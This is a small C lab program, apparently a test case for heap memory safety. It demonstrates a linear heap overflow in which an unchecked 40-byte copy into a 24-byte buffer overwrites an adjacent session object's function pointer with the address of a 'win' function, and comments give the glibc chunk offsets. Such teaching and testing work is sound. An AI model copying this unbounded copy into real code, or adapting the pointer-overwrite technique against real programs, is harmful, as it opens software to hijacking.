/* Linear heap overflow into the adjacent object: a name is copied into a 24-byte buffer
 * without a length check and runs over the session object allocated right after it. */
#include "lab.h"

struct session {
    void (*on_close)(void);
    char user[16];
};

static void close_normally(void) { puts("session closed normally"); }
static void win(void) { pwned("the overflow replaced session->on_close"); }

int main(void) {
    lab_init();
    char *name = alloc_typed(24, DATA_TYPE(1));
    struct session *s = alloc_typed(sizeof *s, PTR_TYPE(2));
    s->on_close = close_normally;
    /* Attacker input, 40 bytes. On glibc the session's data starts 32 bytes after `name`
     * (24 bytes of name, then the session chunk's size field), so bytes 32..39 of the input
     * land on s->on_close; the size field is rewritten with its own value. */
    unsigned char input[40];
    memset(input, 'A', 24);
    uint64_t size_field = 0x21;
    void (*target)(void) = win;
    memcpy(input + 24, &size_field, 8);
    memcpy(input + 32, &target, 8);
    copy_bytes(name, input, sizeof input); /* the bug: no bounds check */
    s->on_close();
    free(name);
    free(s);
    noeffect("session->on_close was not overwritten");
    return 0;
}
